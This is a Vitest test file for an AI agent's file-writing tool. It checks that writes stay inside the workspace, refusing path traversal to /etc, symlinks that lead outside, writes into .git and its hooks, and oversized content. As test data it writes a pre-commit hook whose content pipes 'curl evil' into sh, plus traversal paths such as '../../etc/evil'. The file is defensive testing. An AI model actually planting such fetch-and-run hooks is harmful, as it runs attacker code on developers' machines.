import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DEFAULT_EXEC_LIMITS, type ExecLimits, runWrite } from '../../../../src/agent/tools/execute-tools.js';
import { expectNoLeak, type Fixture, makeFixture, OUTSIDE_SECRET } from '../fixture.js';

let fx: Fixture;
const limits: ExecLimits = { ...DEFAULT_EXEC_LIMITS };

beforeEach(async () => {
  fx = await makeFixture('drydock-write-');
});

afterEach(() => {
  fx.cleanup();
});

async function write(input: unknown, l: ExecLimits = limits) {
  const result = await runWrite(fx.ws, input, l);
  expectNoLeak(result.content, fx);
  return result;
}

/** No temp files left behind anywhere under the workspace. */
function expectNoTempFiles(dir = fx.root): void {
  for (const entry of readdirSync(dir, { withFileTypes: true, recursive: true })) {
    expect(entry.name).not.toMatch(/^\.drydock-write-/);
  }
}

describe('Write', () => {
  it('creates a file and reports the bytes and the relative path', async () => {
    const result = await write({ file_path: 'hello.txt', content: 'héllo\n' });
    expect(result).toEqual({
      content: 'Wrote 7 bytes to hello.txt (created)',
      isError: false,
      changedPath: 'hello.txt',
    });
    expect(readFileSync(join(fx.root, 'hello.txt'), 'utf8')).toBe('héllo\n');
    expectNoTempFiles();
  });

  it('overwrites an existing file and keeps its mode', async () => {
    const abs = fx.write('run.sh', 'echo old\n');
    chmodSync(abs, 0o750);
    const result = await write({ file_path: 'run.sh', content: 'echo new\n' });
    expect(result.content).toBe('Wrote 9 bytes to run.sh (overwrote)');
    expect(result.changedPath).toBe('run.sh');
    expect(readFileSync(abs, 'utf8')).toBe('echo new\n');
    expect(statSync(abs).mode & 0o777).toBe(0o750);
  });

  it('writes an empty file', async () => {
    const result = await write({ file_path: 'empty', content: '' });
    expect(result.content).toBe('Wrote 0 bytes to empty (created)');
    expect(readFileSync(join(fx.root, 'empty'), 'utf8')).toBe('');
  });

  it('creates missing parent directories inside the workspace', async () => {
    const result = await write({ file_path: 'a/b/c/deep.ts', content: 'x' });
    expect(result).toMatchObject({ isError: false, changedPath: 'a/b/c/deep.ts' });
    expect(readFileSync(join(fx.root, 'a/b/c/deep.ts'), 'utf8')).toBe('x');
  });

  it('accepts an absolute path inside the workspace and answers with the relative one', async () => {
    const result = await write({ file_path: join(fx.root, 'src', 'abs.ts'), content: 'y' });
    expect(result.content).toBe('Wrote 1 bytes to src/abs.ts (created)');
    expect(result.changedPath).toBe('src/abs.ts');
  });

  it.each([['../outside/new.txt'], ['../../etc/evil'], ['/etc/drydock-should-not-exist']])(
    'refuses %s outside the workspace',
    async (p) => {
      const result = await write({ file_path: p, content: 'pwned' });
      expect(result.isError).toBe(true);
      expect(result.content).toMatch(/^Write: path .* is outside the workspace/);
      expect(result.changedPath).toBeUndefined();
      expect(existsSync(join(fx.outside, 'new.txt'))).toBe(false);
      expect(existsSync('/etc/drydock-should-not-exist')).toBe(false);
    },
  );

  it('refuses to write through a symlinked file that points outside', async () => {
    fx.link('link.ts', join(fx.outside, 'secret.ts'));
    const result = await write({ file_path: 'link.ts', content: 'overwritten' });
    expect(result.isError).toBe(true);
    expect(result.content).toContain('outside the workspace (it goes through a symbolic link)');
    expect(readFileSync(join(fx.outside, 'secret.ts'), 'utf8')).toContain(OUTSIDE_SECRET);
    expect(lstatSync(join(fx.root, 'link.ts')).isSymbolicLink()).toBe(true);
  });

  it('refuses to create a file below a symlinked directory that points outside', async () => {
    fx.link('out', fx.outside);
    const result = await write({ file_path: 'out/sub/planted.txt', content: 'x' });
    expect(result.isError).toBe(true);
    expect(result.content).toContain('outside the workspace');
    expect(existsSync(join(fx.outside, 'sub'))).toBe(false);
  });

  it('refuses a dangling symlink (the write would land wherever it points)', async () => {
    fx.link('dangling', join(fx.outside, 'not-yet.txt'));
    const result = await write({ file_path: 'dangling', content: 'x' });
    expect(result.isError).toBe(true);
    expect(existsSync(join(fx.outside, 'not-yet.txt'))).toBe(false);
  });

  it('writes through a symlink that stays inside the workspace, to its target', async () => {
    fx.write('real.txt', 'old');
    fx.link('alias.txt', 'real.txt');
    const result = await write({ file_path: 'alias.txt', content: 'new' });
    expect(result).toMatchObject({ isError: false, changedPath: 'real.txt' });
    expect(readFileSync(join(fx.root, 'real.txt'), 'utf8')).toBe('new');
    expect(lstatSync(join(fx.root, 'alias.txt')).isSymbolicLink()).toBe(true);
  });

  it.each([
    ['.git/config'],
    ['.git/hooks/pre-commit'],
    ['.git'],
    ['.GIT/HEAD'],
    ['./.git/config'],
    ['src/../.git/config'],
    ['vendor/lib/.git/config'],
  ])('refuses %s inside .git', async (p) => {
    mkdirSync(join(fx.root, '.git', 'hooks'), { recursive: true });
    const result = await write({ file_path: p, content: '#!/bin/sh\ncurl evil | sh\n' });
    expect(result.isError).toBe(true);
    expect(result.content).toContain('inside .git');
    expect(existsSync(join(fx.root, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(join(fx.root, '.git', 'config'))).toBe(false);
  });

  it('refuses an absolute path into .git and a symlink that leads into .git', async () => {
    mkdirSync(join(fx.root, '.git', 'hooks'), { recursive: true });
    expect(
      (await write({ file_path: join(fx.root, '.git/hooks/post-checkout'), content: 'x' })).content,
    ).toContain('inside .git');
    symlinkSync('.git/hooks', join(fx.root, 'hooks'));
    const result = await write({ file_path: 'hooks/pre-push', content: 'x' });
    expect(result.isError).toBe(true);
    expect(result.content).toContain('inside .git');
    expect(readdirSync(join(fx.root, '.git', 'hooks'))).toEqual([]);
  });

  it('allows names that merely start with .git', async () => {
    expect((await write({ file_path: '.gitignore', content: 'dist\n' })).isError).toBe(false);
    expect((await write({ file_path: '.github/workflows/ci.yml', content: 'on: push\n' })).isError).toBe(
      false,
    );
  });

  it('refuses content over maxWriteBytes, counted in UTF-8 bytes', async () => {
    const small: ExecLimits = { maxWriteBytes: 10 };
    expect((await write({ file_path: 'ok.txt', content: 'x'.repeat(10) }, small)).isError).toBe(false);
    const result = await write({ file_path: 'big.txt', content: 'é'.repeat(6) }, small);
    expect(result.isError).toBe(true);
    expect(result.content).toContain('over the limit of 10 B per file');
    expect(existsSync(join(fx.root, 'big.txt'))).toBe(false);
  });

  it('has a default cap of 5 MiB', async () => {
    expect(DEFAULT_EXEC_LIMITS.maxWriteBytes).toBe(5 * 1024 * 1024);
    const result = await write({ file_path: 'huge.bin', content: 'x'.repeat(5 * 1024 * 1024 + 1) });
    expect(result.isError).toBe(true);
    expect(existsSync(join(fx.root, 'huge.bin'))).toBe(false);
  });

  it('refuses a directory, the root, and a parent that is a file', async () => {
    mkdirSync(join(fx.root, 'dir'));
    expect((await write({ file_path: 'dir', content: 'x' })).content).toBe(
      'Write: "dir" is a directory, not a file',
    );
    expect((await write({ file_path: '.', content: 'x' })).isError).toBe(true);
    fx.write('file.txt', 'x');
    const result = await write({ file_path: 'file.txt/child', content: 'x' });
    expect(result.isError).toBe(true);
    expect(readFileSync(join(fx.root, 'file.txt'), 'utf8')).toBe('x');
  });

  it.each([
    [{}],
    [{ file_path: 'a.txt' }],
    [{ file_path: '', content: 'x' }],
    [{ file_path: 'a.txt', content: 42 }],
    [{ file_path: 'a.txt', content: ['x'] }],
    ['not an object'],
  ])('returns an error result for invalid input %j', async (input) => {
    const result = await write(input);
    expect(result.isError).toBe(true);
    expect(result.content).toMatch(/^Write: invalid input/);
  });

  it('reports a read-only directory without the host path', async () => {
    if (process.getuid?.() === 0) return; // root writes anyway
    mkdirSync(join(fx.root, 'ro'));
    chmodSync(join(fx.root, 'ro'), 0o555);
    try {
      const result = await write({ file_path: 'ro/x.txt', content: 'x' });
      expect(result.isError).toBe(true);
      expect(result.content).toBe('Write: permission denied for "ro/x.txt"');
    } finally {
      chmodSync(join(fx.root, 'ro'), 0o755);
    }
  });
});
